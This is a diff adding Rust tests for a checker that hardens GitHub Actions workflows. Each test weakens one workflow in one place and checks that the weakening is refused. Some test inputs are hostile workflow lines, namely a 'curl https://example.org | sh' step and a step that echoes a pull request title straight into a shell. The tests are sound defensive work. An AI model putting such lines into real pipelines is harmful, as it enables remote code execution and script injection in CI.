@@ -1,0 +1,145 @@
+//! Our own workflows pass; each way to weaken one is refused, and for the right reason.
+
+use super::*;
+use crate::workspace;
+
+/// A workflow of this repository, changed in one place.
+fn changed(name: &str, from: &str, to: &str) -> Vec<String> {
+    let file = Path::new(".github/workflows").join(name);
+    let text = std::fs::read_to_string(workspace::root().join(&file)).unwrap();
+    assert!(from.is_empty() || text.contains(from), "{name} has no `{from}`");
+    let text = if from.is_empty() { text } else { text.replacen(from, to, 1) };
+    let workflow = Workflow::read(&file, &text).unwrap();
+    check(&workflow).into_iter().map(|finding| finding.message).collect()
+}
+
+#[test]
+fn ours_pass() {
+    for entry in std::fs::read_dir(workspace::root().join(".github/workflows")).unwrap() {
+        let name = entry.unwrap().file_name().into_string().unwrap();
+        assert_eq!(changed(&name, "", ""), Vec::<String>::new(), "{name}");
+    }
+}
+
+#[test]
+fn a_weakened_workflow_is_refused() {
+    let hash = "3d3c42e5aac5ba805825da76410c181273ba90b1";
+    let table: &[(&str, &str, &str, &str)] = &[
+        // Not pinned, pinned by a tag, by a branch, by a short hash, with no word which version it is.
+        ("ci.yml", &format!("@{hash} # v7.0.1"), "", "is not pinned by a full hash"),
+        ("ci.yml", &format!("@{hash} # v7.0.1"), "@v7", "is not pinned by a full hash"),
+        ("ci.yml", &format!("@{hash}"), "@main", "is not pinned by a full hash"),
+        ("ci.yml", hash, "3d3c42e", "is not pinned by a full hash"),
+        ("ci.yml", &format!("{hash} # v7.0.1"), hash, "no comment `vX.Y.Z`"),
+        ("ci.yml", "# v7.0.1", "# v7", "no comment `vX.Y.Z`"),
+        // Rights.
+        ("ci.yml", "permissions: {}", "permissions: write-all", "the permissions at the top"),
+        ("ci.yml", "permissions: {}", "permissions: read-all", "the permissions at the top"),
+        ("ci.yml", "permissions: {}\n", "", "no `permissions: {}` at the top"),
+        (
+            "ci.yml",
+            "permissions:\n      contents: read # the checkout\n",
+            "permissions: write-all\n",
+            "the job `ci` has `write-all`",
+        ),
+        ("ci.yml", "contents: read # the checkout", "contents: write", "no comment says why"),
+        // Who starts it.
+        ("ci.yml", "  pull_request:", "  pull_request_target:", "with our rights"),
+        (
+            "ci.yml",
+            "  pull_request:",
+            "  workflow_run:\n    workflows: [zizmor]",
+            "with our rights",
+        ),
+        // What an outsider wrote, in a script.
+        (
+            "ci.yml",
+            "run: bash .ci/run",
+            "run: echo ${{ github.event.pull_request.title }}",
+            "hand the value in by `env`",
+        ),
+        ("ci.yml", "run: bash .ci/run", "run: curl https://example.org | sh", "runs what it"),
+        ("ci.yml", "    timeout-minutes: 60\n", "", "has no `timeout-minutes`"),
+        ("ci.yml", "persist-credentials: false", "fetch-depth: 1", "leaves its token"),
+        ("ci.yml", "ubuntu-24.04", "ubuntu-latest", "which changes"),
+        ("ci.yml", "ubuntu-24.04", "self-hosted", "which changes"),
+        ("ci.yml", "    shell: bash", "    shell: sh", "a failure in a pipe"),
+        ("ci.yml", "step-security/harden-runner@", "octo/runner@", "harden-runner"),
+        // Steps that cannot fail.
+        ("ci.yml", "run: bash .ci/run", "run: bash .ci/run || true", "cannot fail"),
+        (
+            "ci.yml",
+            "        run: bash .ci/run",
+            "        continue-on-error: true\n        run: bash .ci/run",
+            "cannot fail",
+        ),
+        (
+            "release.yml",
+            "run: cargo xtask verify",
+            "run: exit 0; cargo xtask verify",
+            "cannot fail",
+        ),
+        (
+            "release.yml",
+            "    needs: sign\n",
+            "    needs: sign\n    if: always()\n",
+            "after a failure",
+        ),
+        // Releases.
+        ("release.yml", "cancel-in-progress: false", "cancel-in-progress: true", "be cancelled"),
+        ("release.yml", "  cancel-in-progress: false\n", "", "no `cancel-in-progress: false`"),
+        (
+            "release.yml",
+            "      - name: Build binaries",
+            "      - uses: actions/cache@55cc8345863c7cc4c66a329aec7e433d2d1c52a9 # v6.1.0\n\
+             \x20     - name: Build binaries",
+            "a release uses a cache",
+        ),
+        (
+            "release.yml",
+            "      - name: Build binaries",
+            "      - uses: Swatinem/rust-cache@c19371144df3bb44fab255c43d04cbc2ab54d1c4 # v2.9.1\n\
+             \x20     - name: Build binaries",
+            "a release uses a cache",
+        ),
+        ("release.yml", "    needs: verify\n", "    needs: sign\n", "what was not verified"),
+        ("release.yml", "    needs: compare\n", "    needs: gate\n", "`sign` does not wait for"),
+        ("release.yml", "cargo xtask verify", "echo", "no job `verify` runs"),
+        ("release.yml", "diff --recursive", "ls", "no job `compare` runs"),
+        ("release.yml", " --draft ", " ", "without a person"),
+    ];
+    for (file, from, to, why) in table {
+        let messages = changed(file, from, to);
+        assert!(
+            messages.iter().any(|message| message.contains(why)),
+            "{file}: `{from}` → `{to}`: {messages:?}"
+        );
+    }
+}
+
+#[test]
+fn rights_in_a_release_need_a_person() {
+    let file = Path::new(".github/workflows/release.yml");
+    let text = std::fs::read_to_string(workspace::root().join(file)).unwrap();
+    let text = text.replace("    environment: release\n", "");
+    let messages: Vec<_> = check(&Workflow::read(file, &text).unwrap())
+        .into_iter()
+        .map(|finding| finding.message)
+        .collect();
+    assert!(messages.iter().any(|m| m.contains("`draft` may write contents unreviewed")));
+    assert!(messages.iter().any(|m| m.contains("`sign` may write id-token")), "{messages:?}");
+    let text = text.replace("egress-policy: block", "egress-policy: audit");
+    let open = check(&Workflow::read(file, &text).unwrap());
+    assert!(open.iter().any(|finding| finding.message.contains("may reach any host")));
+}
+
+#[test]
+fn pins() {
+    let hash = "a".repeat(40);
+    assert!(is_pinned(&format!("owner/name@{hash}")));
+    assert!(is_pinned(&format!("owner/name/path@{hash}")));
+    assert!(is_pinned(&format!("docker://image@sha256:{}", "b".repeat(64))));
+    for bad in ["owner/name", "owner/name@v1", "docker://image:1", &format!("name@{hash}")] {
+        assert!(!is_pinned(bad), "{bad}");
+    }
+}
